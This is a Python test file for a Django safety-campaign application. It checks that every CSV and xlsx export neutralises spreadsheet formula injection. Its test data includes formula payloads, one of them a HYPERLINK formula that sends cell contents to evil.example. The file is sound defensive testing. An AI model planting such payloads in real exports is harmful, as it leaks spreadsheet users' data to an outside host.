"""No formula in any export (issue 11, item 3): hostile text typed into a report's text blank, an
event title, a material title and an org name reaches every CSV and xlsx the application writes
— values CSV, statistics table, consolidated workbook, chart CSVs, the package manifest, the audit
CSV, the import templates — and no cell anywhere starts with a live formula character, while the
figures stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from safetymonth.audit.models import AuditEntry
from safetymonth.audit.services import log_event
from safetymonth.campaigns.models import EventType, IndicatorKind
from safetymonth.dashboard.services import CHARTS
from safetymonth.dashboard.tests.helpers import known_tree
from safetymonth.events.tests.helpers import make_event
from safetymonth.evidence.tests.factories_review import make_material
from safetymonth.hazards.tests.helpers import make_hazard
from safetymonth.lib.cells import is_live
from safetymonth.orgs.models import Org
from safetymonth.reports.models import Value

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=2+3",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))  # not read-only: data_type "f" shows formula cells
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.fixture
def hostile_tree(cast):
    rnd = known_tree(cast)
    # a text blank in every report, an org's name, an event and a material (and so the audit log)
    Value.objects.filter(indicator__kind=IndicatorKind.TEXT).exclude(text_value="").update(
        raw=HOSTILE[0], text_value=HOSTILE[0]
    )
    Org.objects.filter(pk=cast.enterprise.pk).update(name=HOSTILE[1])
    Org.objects.filter(pk=cast.enterprise2.pk).update(name=HOSTILE[5])
    cast.enterprise.refresh_from_db()
    event_type = EventType.objects.filter(campaign=rnd.campaign).first()
    event = make_event(cast, cast.enterprise, event_type.code, title=HOSTILE[2], participants=12)
    make_material(cast, cast.enterprise, title=HOSTILE[3], event=event, campaign=rnd.campaign)
    make_material(cast, cast.enterprise2, title=HOSTILE[6], campaign=rnd.campaign)
    log_event(cast.office, AuditEntry.Action.UPDATE, cast.enterprise, summary=HOSTILE[4])
    # the hazard ledger: a description, a place and measures typed by an enterprise
    hazard = make_hazard(cast, cast.enterprise2, description=HOSTILE[0])
    type(hazard).objects.filter(pk=hazard.pk).update(place=HOSTILE[2], measures=HOSTILE[3])
    return rnd


def _exports(client, cast, rnd) -> dict[str, tuple[str, bytes]]:
    """Every export, fetched as the office: name -> (csv|xlsx, bytes)."""
    client.force_login(cast.office)
    args = [rnd.campaign.public_id, rnd.code, cast.commission.public_id]
    out: dict[str, tuple[str, bytes]] = {}
    for name, kind, query in (
        ("values_csv", "csv", ""),
        ("workbook", "xlsx", ""),
        ("table_xlsx", "xlsx", "?source=rollup"),
    ):
        out[name] = (kind, _body(client.get(reverse(f"exports:{name}", args=args) + query)))
    for org in (cast.enterprise, cast.section):
        own = [rnd.campaign.public_id, rnd.code, org.public_id]
        out[f"table_xlsx own {org.pk}"] = (
            "xlsx",
            _body(client.get(reverse("exports:table_xlsx", args=own) + "?source=own")),
        )
        out[f"values_csv {org.pk}"] = ("csv", _body(client.get(reverse("exports:values_csv", args=own))))
    for chart in CHARTS:
        url = reverse("dashboard:chart_csv", args=[*args, chart])
        out[f"chart {chart}"] = ("csv", _body(client.get(url)))
    out["audit"] = ("csv", _body(client.get(reverse("audit:export"))))
    out["hazard ledger"] = ("xlsx", _body(client.get(reverse("hazards:export"))))
    out["hazard statistics"] = (
        "xlsx",
        _body(client.get(reverse("hazards:statistics_export") + f"?year={timezone.localdate().year}")),
    )
    out["orgs template xlsx"] = ("xlsx", _body(client.get(reverse("orgs:import_template", args=["xlsx"]))))
    out["orgs template csv"] = ("csv", _body(client.get(reverse("orgs:import_template", args=["csv"]))))
    package = _body(client.get(reverse("evidence:package_org", args=[cast.commission.public_id])))
    with zipfile.ZipFile(io.BytesIO(package)) as zf:
        manifest = next(n for n in zf.namelist() if n.endswith(".xlsx"))
        out["package manifest"] = ("xlsx", zf.read(manifest))
    client.force_login(cast.enterprise_staff)
    out["events template"] = (
        "xlsx",
        _body(client.get(reverse("events:import_template") + f"?campaign={rnd.campaign.public_id}")),
    )
    return out


def test_no_export_cell_starts_a_formula_and_numbers_stay_numbers(client, cast, hostile_tree):
    exports = _exports(client, cast, hostile_tree)
    seen_hostile: set[str] = set()
    for name, (kind, data) in exports.items():
        if kind == "csv":
            cells = _csv_cells(data)
            texts = cells
        else:
            xcells = _xlsx_cells(data)
            assert not [c.coordinate for c in xcells if c.data_type == "f"], name
            texts = [c.value for c in xcells if isinstance(c.value, str)]
            numbers = [c.value for c in xcells if isinstance(c.value, int | float)]
            if name in {"workbook", "package manifest"}:
                assert numbers, f"{name}: figures must stay numbers"
        live = [t for t in texts if is_live(t)]
        assert not live, f"{name}: {live[:3]}"
        seen_hostile |= {h for h in HOSTILE for t in texts if t == "'" + h}
    # the hostile texts did reach the exports (as inert text)
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[3], HOSTILE[4]} <= seen_hostile
    # numbers in the CSVs are plain digits, no apostrophe
    values = _csv_cells(exports["values_csv"][1])
    assert "13" in values or "10" in values
    assert not any(v.startswith("'") and v[1:].lstrip("-").isdigit() for v in values)
